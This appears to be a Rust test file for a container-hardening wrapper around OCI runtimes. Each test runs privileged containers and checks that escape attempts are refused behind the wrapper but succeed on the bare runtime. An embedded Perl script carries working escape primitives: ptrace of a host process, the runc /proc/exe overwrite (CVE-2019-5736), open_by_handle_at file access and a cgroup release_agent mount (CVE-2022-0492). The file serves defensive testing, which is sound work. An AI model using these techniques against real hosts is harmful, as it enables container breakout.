//! Attacks from inside a container that has the privileges they need, each with the bare runtime as the control: there it gets through.
//! Writing to what is listed for nobody, programs that are not, mounts and leaked descriptors have tests of their own beside the runtimes.

use std::fs;
use std::process::{Child, Command, Stdio};

use libtest_mimic::Failed;
use serde_json::json;

use super::bundle::{Bundle, Ended};
use super::runtimes::{FOREVER, behind, ended, started};
use crate::kit::{Need, Suite, Verdict};

/// A language that makes system calls by number, and is on every host and in every machine.
const PERL: &str = "/usr/bin/perl";

const NEEDS: &[Need] = &[
    Need::Root,
    Need::Landlock,
    Need::Cgroup,
    Need::Program("runc"),
    Need::Program("crun"),
    Need::Program("busybox"),
    Need::Program("perl"),
    Need::Program("ldd"),
];

pub(crate) fn register(suite: &mut Suite) {
    for (name, body) in [
        (
            "oci::attacks::what_gets_through_without_a_fence_does_not_behind_one",
            all as fn(&str) -> Verdict,
        ),
        (
            "oci::attacks::the_runtimes_own_program_is_not_executed",
            own_program,
        ),
        (
            "oci::attacks::what_exec_adds_does_not_execute_the_runtimes_program",
            own_program_by_exec,
        ),
    ] {
        for runtime in behind() {
            suite.test(format!("{name}[{runtime}]"), NEEDS, move || body(runtime));
        }
    }
}

/// Told one by one. `$ARGV[0]` is a name that nobody else has, `$ARGV[1]` a process outside of the container. A program is overwritten
/// as runc's was (CVE-2019-5736): by a descriptor that was got while it ran, once it does not. A file is opened by its handle
/// as by shocker.c. A hierarchy of cgroups is mounted for its `release_agent`, a program that the host would run (CVE-2022-0492).
const ATTACKS: &str = r#"
$| = 1;
sub told { my ($what, $done) = @_; print "$what ", ($done ? "done" : "refused"), "\n"; }
my ($none, $data, $mnt, $tmpfs, $cgroup, $name) = ("none", "/data", "/mnt", "tmpfs", "cgroup", "none,name=$ARGV[0]");
my ($made, $agent, $socket);

told("write", open($made, ">", "/data/made"));

my $traced = syscall(PTRACE, 16, $ARGV[1] + 0, 0, 0) == 0;
if ($traced) { waitpid($ARGV[1], 0x40000000); syscall(PTRACE, 17, $ARGV[1] + 0, 0, 0); }
told("trace", $traced);

# Nobody listens: who says so was reached. Or the interface is down, as youki leaves it: whoever says that has let it pass.
socket($socket, 2, 1, 0);
told("connect", connect($socket, pack("Sna4x8", 2, 81, pack("C4", 127, 0, 0, 1))) || $! == 111 || $! == 101);

my $victim = fork;
if (!$victim) { exec "/bin/sleep", "30"; exit; }
for (1 .. 100) { last if (readlink("/proc/$victim/exe") // "") =~ /busybox/; select undef, undef, undef, .02; }
my $held = sysopen(my $program, "/proc/$victim/exe", 0x200000);
kill 9, $victim;
waitpid $victim, 0;
told("overwrite", $held && sysopen(my $open, "/proc/self/fd/" . fileno($program), 1));

my ($kept, $handle, $mount) = ("/data/kept", pack("Ii", 128, 0) . ("\0" x 128), pack("i", 0));
my $found = syscall(NAME_TO_HANDLE, -100, $kept, $handle, $mount, 0);
my $beside = sysopen(my $folder, "/data", 0);
told("handle", $found == 0 && $beside && syscall(OPEN_BY_HANDLE, fileno($folder), $handle, 0) >= 0);

told("namespace", syscall(UNSHARE, 0x20000) == 0);
told("setting", open(my $setting, ">", "/proc/sys/kernel/hostname"));
told("mount", syscall(MOUNT, $none, $data, $tmpfs, 0, 0) == 0);

my $hierarchy = syscall(MOUNT, $none, $mnt, $cgroup, 0, $name) == 0;
told("release_agent", $hierarchy && open($agent, ">", "/mnt/release_agent") && syswrite($agent, "/nothing"));
close $agent if $agent;
syscall(UMOUNT, $mnt, 0) if $hierarchy;
"#;

const NAMES: [&str; 9] = [
    "write",
    "trace",
    "connect",
    "overwrite",
    "handle",
    "namespace",
    "setting",
    "mount",
    "release_agent",
];

fn all(runtime: &str) -> Verdict {
    let victim = Victim::new()?;
    let fenced = attacked(runtime, &victim)?;
    let told = |how: &str| NAMES.map(|name| format!("{name} {how}\n")).concat();
    fenced.says(&told("refused"))?;
    let bare = attacked(runtime.trim_start_matches("ringfence-"), &victim)?;
    let mut expected = told("done");
    if !fs::read_to_string("/proc/filesystems")?.contains("\tcgroup\n") {
        expected = expected.replace("release_agent done", "release_agent refused");
    }
    bare.says(&expected)
}

/// In the host's process namespace, so that there is somebody to trace.
fn attacked(runtime: &str, victim: &Victim) -> Result<Ended, Failed> {
    let bundle = Bundle::of(runtime, "")?;
    bundle.program(PERL)?;
    fs::create_dir(bundle.at("mnt"))?;
    let words = [
        "perl",
        "-e",
        &script(),
        bundle.id(),
        &victim.0.id().to_string(),
    ]
    .map(str::to_owned);
    let bundle = bundle.with(|value| {
        let process = &mut value["process"];
        process["args"] = json!(words);
        process["env"] = json!(["PATH=/usr/bin:/bin"]);
        let all = json!([
            "CAP_DAC_OVERRIDE",
            "CAP_DAC_READ_SEARCH",
            "CAP_KILL",
            "CAP_SYS_ADMIN",
            "CAP_SYS_PTRACE",
        ]);
        process["capabilities"] = json!({ "bounding": all, "effective": all, "permitted": all });
        if let Some(list) = value["linux"]["namespaces"].as_array_mut() {
            list.retain(|one| one["type"] != "pid");
        }
    })?;
    bundle.call(&["run", "@"])
}

/// With this architecture's numbers.
fn script() -> String {
    let numbers = [
        ("PTRACE", libc::SYS_ptrace),
        ("NAME_TO_HANDLE", libc::SYS_name_to_handle_at),
        ("OPEN_BY_HANDLE", libc::SYS_open_by_handle_at),
        ("UNSHARE", libc::SYS_unshare),
        ("UMOUNT", libc::SYS_umount2),
        ("MOUNT", libc::SYS_mount),
    ];
    let of = |text: String, (name, number): (&str, libc::c_long)| {
        text.replace(&format!("syscall({name},"), &format!("syscall({number},"))
    };
    numbers.into_iter().fold(ATTACKS.to_owned(), of)
}

/// A process outside.
struct Victim(Child);

impl Victim {
    fn new() -> Result<Self, Failed> {
        Ok(Self(
            Command::new("sleep")
                .arg("900")
                .stdin(Stdio::null())
                .spawn()?,
        ))
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        self.0.kill().ok();
        self.0.wait().ok();
    }
}

/// The container's command is a link to what the runtime itself runs from when it executes the command.
fn own_program(runtime: &str) -> Verdict {
    let run = |runtime: &str| -> Result<Ended, Failed> {
        let bundle = with_libraries(runtime)?;
        let bundle = bundle.with(|value| {
            value["process"]["args"] = json!(["/proc/self/exe", "--version"]);
        })?;
        bundle.call(&["run", "@"])
    };
    let bare = runtime.trim_start_matches("ringfence-");
    run(bare)?.claim_out(|out| out.contains(&format!("{bare} version")))?;
    let fenced = run(runtime)?;
    fenced.claim(
        fenced.code() != Some(0) && fenced.out().is_empty(),
        "no start",
    )
}

fn own_program_by_exec(runtime: &str) -> Verdict {
    let exec = |runtime: &str| -> Result<Ended, Failed> {
        let bundle = with_libraries(runtime)?;
        let bundle =
            bundle.with(|value| value["process"]["args"] = json!(["sh", "-c", FOREVER]))?;
        started(&bundle)?;
        let added = bundle.call(&["exec", "@", "/proc/self/exe", "--version"])?;
        ended(&bundle)?;
        Ok(added)
    };
    let bare = runtime.trim_start_matches("ringfence-");
    exec(bare)?.claim_out(|out| out.contains(&format!("{bare} version")))?;
    let fenced = exec(runtime)?;
    fenced.claim(
        fenced.code() != Some(0) && !fenced.out().contains("version"),
        "an exec that is denied",
    )
}

/// A root in which the runtime's program finds its libraries, as that of an attacker would.
fn with_libraries(runtime: &str) -> Result<Bundle, Failed> {
    let bare = runtime.trim_start_matches("ringfence-");
    let bundle = Bundle::of(runtime, "")?;
    bundle.program(bare)?;
    for folder in ["usr/sbin", "usr/bin", "bin"] {
        fs::remove_file(bundle.at(folder).join(bare)).ok();
    }
    Ok(bundle)
}
